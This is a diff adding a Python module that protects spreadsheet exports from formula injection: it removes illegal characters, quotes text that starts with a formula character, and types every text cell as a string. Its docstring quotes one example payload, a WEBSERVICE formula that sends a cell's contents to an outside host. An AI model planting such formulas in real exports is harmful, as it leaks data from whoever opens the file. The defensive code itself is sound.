@@ -1,0 +1,42 @@
+"""Cells of exported files (CSV, XLSX, GeoJSON): text typed by users is data, never a spreadsheet formula.
+
+A note such as `=WEBSERVICE("https://…?"&A2)` runs when the export is opened in a spreadsheet program (OWASP "CSV
+injection"); a vertical tab makes openpyxl refuse the whole workbook. Every exported text cell passes here.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterable
+from typing import TYPE_CHECKING, Any
+
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell, WriteOnlyCell
+
+if TYPE_CHECKING:
+    from openpyxl.worksheet._write_only import WriteOnlyWorksheet
+    from openpyxl.worksheet.worksheet import Worksheet
+
+# Spreadsheet programs start a formula at these (they skip a leading tab or carriage return first).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def exported_text(text: str) -> str:
+    """Text as an exported cell holds it: without the control characters a workbook cannot hold, and after a single
+    quote when a spreadsheet program would read it as a formula."""
+    text = ILLEGAL_CHARACTERS_RE.sub("", text)
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+def exported_cell(value: Any) -> Any:
+    """A value for an exported cell: text made safe by `exported_text`; numbers (-3 too), dates and None as they are."""
+    return exported_text(value) if isinstance(value, str) else value
+
+
+def sheet_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> list[Cell]:
+    """Cells for `sheet.append`: text made safe and typed as a string cell, so no exported value is ever a formula."""
+    cells = []
+    for value in values:
+        cell = WriteOnlyCell(sheet, exported_cell(value))
+        if isinstance(cell.value, str):
+            cell.data_type = "s"  # openpyxl would otherwise type text starting with "=" as a formula
+        cells.append(cell)
+    return cells
